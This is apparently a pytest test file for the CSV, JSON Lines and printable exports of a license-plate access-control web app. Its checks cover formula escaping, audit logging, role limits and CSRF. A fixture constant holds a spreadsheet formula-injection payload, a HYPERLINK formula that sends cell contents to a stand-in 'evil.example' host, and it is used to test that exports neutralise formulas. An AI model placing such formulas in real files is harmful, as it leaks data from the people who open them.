"""Exports: exactly what is shown, as CSV, JSON Lines and a page to print; nothing in a cell becomes a formula."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from alpr.access import Decision, Entry, ListKind, Match, MatchKind, Verdict
from alpr.store import audit, lists, tags, users
from alpr.store.users import Role
from tests.web.conftest import token_in
from tests.web.drawn_site import drawn_read

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def inside(client, log_in):
    """Log a guard in."""
    await log_in(client)
    return client


def rows_of(answer):
    """Return the rows of a CSV answer, as a spreadsheet splits them."""
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


@pytest.fixture
async def three(site):
    """Let three vehicles pass, one unread, one whose owner is a formula."""
    entry = Entry(1, "Staff", ListKind.ALLOW, "VQAB123", owner=EVIL, company="+49 30 1", note="@SUM(A1)")
    decision = Decision(Verdict.ALLOWED, "-2+3", (Match(entry, MatchKind.EXACT, 1.0, "is VQAB123"),))
    return [
        await site.passes(drawn_read("VQAB123", age=30), decision=decision),
        await site.passes(drawn_read("", age=20)),
        await site.passes(drawn_read("QMRT77", age=10, camera="gate-out")),
    ]


@pytest.mark.parametrize("query", ["", "?camera=gate-in", "?q=A8", "?state=unread", "?kind=plate&when=hour"])
async def test_an_export_is_exactly_what_is_shown(inside, three, query):
    """CSV and JSON Lines hold the reads of the list, in its order."""
    shown = re.findall(r'id="read-([0-9a-f-]+)"', (await inside.get(f"/reads{query}")).text)
    assert [row["id"] for row in rows_of(await inside.get(f"/reads/export.csv{query}"))] == shown
    lines = (await inside.get(f"/reads/export.jsonl{query}")).text.splitlines()
    assert [json.loads(line)["id"] for line in lines] == shown


async def test_no_cell_is_a_formula(inside, three):
    """What people typed begins no cell with a sign that spreadsheets calculate with, and nothing of it is lost."""
    answer = await inside.get("/reads/export.csv?q=VQAB")
    for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    (row,) = rows_of(answer)
    assert (row["owner"], row["company"], row["reason"]) == ("'" + EVIL, "'+49 30 1", "'-2+3")
    assert answer.headers["content-disposition"].startswith('attachment; filename="reads-')


async def test_picked_reads_alone_are_exported(inside, three):
    """Ids narrow to what was ticked; the audit log knows who took them."""
    ids = [three[0].id, three[2].id]
    picked = "&".join(f"id={one}" for one in ids)
    assert {row["id"] for row in rows_of(await inside.get(f"/reads/export.csv?{picked}"))} == set(ids)
    page = (await inside.get(f"/reads/export?{picked}")).text
    assert "2 reads" in page
    assert page.count(f"id={ids[0]}") >= 3


async def test_exports_are_on_the_record(site, inside, three):
    """Who exported which reads stands in the audit log."""
    await inside.get("/reads/export.csv?camera=gate-in")
    (line,) = [one for one in await audit.latest(site.database) if one.action == "reads export"]
    assert (line.actor, line.subject, line.detail) == ("anna", "csv", "camera gate-in")


async def test_the_page_tells_how_far_a_file_is(inside, three):
    """Before the download nothing, after it that it is complete, and then the page stops asking."""
    page = (await inside.get("/reads/export")).text
    job = re.search(r"progress\?job=([\w-]+)", page)[1]
    waiting = await inside.get(f"/reads/export/progress?job={job}")
    assert (waiting.status_code, waiting.text.strip()) == (200, "")
    await inside.get(f"/reads/export.csv?job={job}")
    ended = await inside.get(f"/reads/export/progress?job={job}")
    assert ended.status_code == 286
    assert "Complete: 3 reads." in ended.text


async def test_the_report_shows_the_pictures(inside, three):
    """Every read stands there with its crop, time and owner, harmless."""
    page = (await inside.get("/reads/report?frames=1")).text
    assert [page.count(f"/reads/{one.id}/crop.jpg") for one in three] == [1, 1, 1]
    assert page.count("/frame.jpg") == 3
    assert EVIL not in page
    assert "=HYPERLINK(&#34;http" in page


async def test_what_was_picked_can_be_tagged_and_put_on_a_list(site, client, log_in, three):
    """An admin puts two texts on a list at once; one that is on it already stays."""
    await site.add_user("ada", Role.ADMIN)
    await log_in(client, "ada")
    number = await lists.create(site.database, "Known", ListKind.WATCH, "ada", three[0].captured_at)
    picked = "&".join(f"id={one.id}" for one in three)
    page = (await client.get(f"/reads/picked?{picked}")).text
    form = {"csrf": token_in(page), "id": [one.id for one in three]}
    for said in ("2 added to Known.", "0 added to Known."):
        answer = await client.post("/reads/picked/list", data={**form, "list": str(number), "note": "seen"})
        assert said in answer.text
    assert {one.pattern for one in await lists.load_entries(site.database, number)} == {"VQAB123", "QMRT77"}
    assert "3 reads are tagged &lt;b&gt;" in (await client.post("/reads/picked/tag", data={**form, "tag": "<b>"})).text
    assert await tags.of_read(site.database, three[1].id) == ("<b>",)


@pytest.mark.parametrize("path", ["/reads/export", "/reads/export.csv", "/reads/report", "/reads/picked"])
async def test_viewers_export_nothing(site, client, log_in, path):
    """Exports name people: they are for guards."""
    await users.set_role(site.database, "anna", Role.VIEWER)
    await log_in(client)
    assert (await client.get(path)).status_code == 403


async def test_an_export_of_another_site_is_refused(inside, three):
    """A form that is not ours puts nothing on a list and tags nothing."""
    assert (await inside.post("/reads/picked/tag", data={"id": three[0].id, "tag": "x"})).status_code == 403
